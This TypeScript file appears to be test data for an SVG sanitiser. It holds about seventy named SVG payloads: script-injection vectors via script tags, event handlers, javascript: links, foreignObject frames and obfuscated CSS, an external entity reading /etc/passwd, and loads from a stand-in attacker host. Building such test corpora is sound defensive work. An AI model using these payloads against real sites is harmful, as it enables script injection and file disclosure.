import { named, type Payload, RUN, SITE } from './payload.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';

const picture = (content: string, root = ''): string =>
  `<svg ${NS} viewBox="0 0 9 9" ${root}>${content}<rect width="9" height="9"/></svg>`;

/** Pictures that run or load when they are opened by themselves, or shown in a page. */
export const svgPayloads: readonly Payload[] = named({
  'picture with a script': picture(`<script>${RUN}</script>`),
  'picture with a script of another site': picture(`<script href="${SITE}/x.js"/>`),
  'picture with an older script of another site': picture(`<script xlink:href="${SITE}/x.js"/>`),
  'picture with a script of data': picture(`<script href="data:text/javascript,${RUN}"/>`),
  'picture with a script in CDATA': picture(`<script><![CDATA[${RUN}]]></script>`),
  'picture with an encoded script': picture(`<script>${RUN.replaceAll('=', '&#61;')}</script>`),
  'picture with a script of ECMA': picture(`<script type="text/ecmascript">${RUN}</script>`),
  'picture with a script of HTML': picture(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`),
  'picture with a script under a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${RUN}</s:script></s:svg>`,
  'picture that loads': picture('', `onload="${RUN}"`),
  'picture that loads under a namespace': picture('', `xmlns:x="urn:x" x:onload="x" onload="${RUN}"`),
  'picture that begins': picture(`<animate onbegin="${RUN}" attributeName="x" dur="1s"/>`),
  'picture that ends': picture(`<animate onend="${RUN}" attributeName="x" dur="1ms"/>`),
  'picture that repeats': picture(`<set onrepeat="${RUN}" attributeName="x" to="y" dur="1ms" repeatCount="2"/>`),
  'picture with a failing picture': picture(`<image href="x" onerror="${RUN}"/>`),
  'picture that has focus': picture(`<g tabindex="1" autofocus="autofocus" onfocus="${RUN}"/>`),
  'picture that is touched': picture(`<rect width="9" height="9" onmouseover="${RUN}" onclick="${RUN}"/>`),
  'picture with HTML': picture(`<foreignObject><img ${HTML} src="x" onerror="${RUN}"/></foreignObject>`),
  'picture with a frame': picture(`<foreignObject><iframe ${HTML} src="javascript:top.pwned=1"/></foreignObject>`),
  'picture with a document in a frame': picture(
    `<foreignObject><iframe ${HTML} srcdoc="&lt;script>top.pwned=1&lt;/script>"/></foreignObject>`,
  ),
  'picture with a body': picture(`<foreignObject><body ${HTML} onload="${RUN}"/></foreignObject>`),
  'picture with an object': picture(
    `<foreignObject><object ${HTML} data="data:text/html,&lt;script>top.pwned=1&lt;/script>"/></foreignObject>`,
  ),
  'picture with a base': picture(`<base ${HTML} href="${SITE}/"/><image href="x.png" width="9" height="9"/>`),
  'picture that refreshes': picture(`<meta ${HTML} http-equiv="refresh" content="0;url=${SITE}/"/>`),
  'picture with a style sheet of HTML': picture(`<link ${HTML} rel="stylesheet" href="${SITE}/x.css"/>`),
  'picture with HTML and no foreign object': picture(`<img ${HTML} src="x" onerror="${RUN}"/>`),
  'picture with a link that runs': picture(`<a href="javascript:${RUN}"><text y="9">x</text></a>`),
  'picture with an older link that runs': picture(`<a xlink:href="javascript:${RUN}"><text y="9">x</text></a>`),
  'picture whose link is animated': picture(
    `<a><animate attributeName="href" values="javascript:${RUN}"/><text y="9">x</text></a>`,
  ),
  'picture whose link is set': picture(
    `<a id="a"><text y="9">x</text></a><set href="#a" attributeName="href" to="javascript:${RUN}"/>`,
  ),
  'picture whose picture is animated': picture(
    `<image id="i" width="9" height="9"/><animate href="#i" attributeName="href" values="${SITE}/x.png"/>`,
  ),
  'picture whose handler is set': picture(`<set attributeName="onmouseover" to="${RUN}"/>`),
  'picture of another site': picture(`<image href="${SITE}/x.png" width="9" height="9"/>`),
  'picture of another site, older': picture(`<image xlink:href="${SITE}/x.png" width="9" height="9"/>`),
  'picture of a site without a scheme': picture('<image href="//evil.example/x.png" width="9" height="9"/>'),
  'picture with another base': picture(`<g xml:base="${SITE}/"><image href="x.png" width="9" height="9"/></g>`),
  'picture of a picture of data': picture(
    `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/%3E" width="9" height="9"/>`,
  ),
  'picture that uses another site': picture(`<use href="${SITE}/x.svg#x"/>`),
  'picture that uses data': picture(
    `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Etop.pwned=1%3C/script%3E%3C/svg%3E#x"/>`,
  ),
  'picture filtered by another site': picture(
    `<filter id="f"><feImage href="${SITE}/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'picture painted by another site': picture(`<rect fill="url(${SITE}/x.svg#x)" width="9" height="9"/>`),
  'picture masked by another site': picture(`<rect mask="url('${SITE}/x.svg#x')" width="9" height="9"/>`),
  'picture clipped by another site': picture(`<rect clip-path='url("${SITE}/x.svg#x")' width="9" height="9"/>`),
  'picture marked by another site': picture(`<path marker-end="url(${SITE}/x.svg#x)" d="M0 0L9 9"/>`),
  'picture with a cursor': picture(`<rect cursor="url(${SITE}/x.cur), auto" width="9" height="9"/>`),
  'picture with an image set': picture(`<rect style="mask:image-set('${SITE}/x.png' 1x)" width="9" height="9"/>`),
  'picture styled by another site': picture(`<style>@import url(${SITE}/x.css);</style>`),
  'picture with a style that imports a text': picture(`<style>@import "${SITE}/x.css";</style>`),
  'picture with a font of another site': picture(
    `<style>@font-face{font-family:x;src:url(${SITE}/x)}text{font-family:x}</style><text y="9">x</text>`,
  ),
  'picture with a background in a style sheet': picture(`<style>svg{background:url(${SITE}/x.png)}</style>`),
  'picture with a style split by an element': picture(`<style>svg{background:url<g/>(${SITE}/x.png)}</style>`),
  'picture with a style split by CDATA': picture(`<style>svg{background:ur<![CDATA[l(]]>${SITE}/x.png)}</style>`),
  'picture with a style split by a comment': picture(`<style>svg{background:ur<!-- x -->l(${SITE}/x.png)}</style>`),
  'picture with a style in escapes': picture(`<style>svg{background:\\75\\72\\6c(${SITE}/x.png)}</style>`),
  'picture with a style in entities': picture(`<style>svg{background:&#117;rl(${SITE}/x.png)}</style>`),
  'picture with a style and a script': picture(`<style></style><![CDATA[</style><script>${RUN}</script>]]>`),
  'picture with a style attribute': picture(`<rect style="background:url(${SITE}/x.png)" width="9" height="9"/>`),
  'picture with a style attribute in a variable': picture(`<rect style="--x:url(${SITE}/x.png);mask:var(--x)"/>`),
  'picture with a style sheet before it': `<?xml-stylesheet href="${SITE}/x.css"?>${picture('')}`,
  'picture with a transformation before it': `<?xml-stylesheet type="text/xsl" href="data:text/xml,&lt;x/>"?>${picture('')}`,
  'picture with an entity': `<!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]>${picture('&x;')}`,
  'picture with an entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${picture('<text>&x;</text>')}`,
  'picture with an attribute by default': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${picture('')}`,
  'picture with a handler element': picture(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  ),
  'picture with a listener': picture(
    '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><script id="h">window.pwned=1</script>',
  ),
  'picture with film': picture(
    `<video ${HTML} src="${SITE}/x.mp4" autoplay=""/><audio ${HTML} src="${SITE}/x.mp3" autoplay=""/>`,
  ),
  'picture with an iframe of SVG': picture('<iframe src="javascript:top.pwned=1"/>'),
  'picture with a script in its metadata': picture(`<metadata><script>${RUN}</script></metadata>`),
  'picture with a script in its definitions': picture(`<defs><script>${RUN}</script></defs>`),
  'picture with a script in a switch': picture(
    `<switch><foreignObject><script ${HTML}>${RUN}</script></foreignObject></switch>`,
  ),
  'picture with a script in a title': picture(`<title><script ${HTML}>${RUN}</script></title>`),
  'picture with a discarded rectangle': picture(`<discard begin="0s" onbegin="${RUN}"/>`),
  'picture with a mesh of another site': picture(
    `<mpath href="${SITE}/x.svg#x"/><textPath href="${SITE}/x.svg#x">x</textPath>`,
  ),
  'picture with a gradient of another site': picture(
    `<linearGradient id="g" href="${SITE}/x.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`,
  ),
});
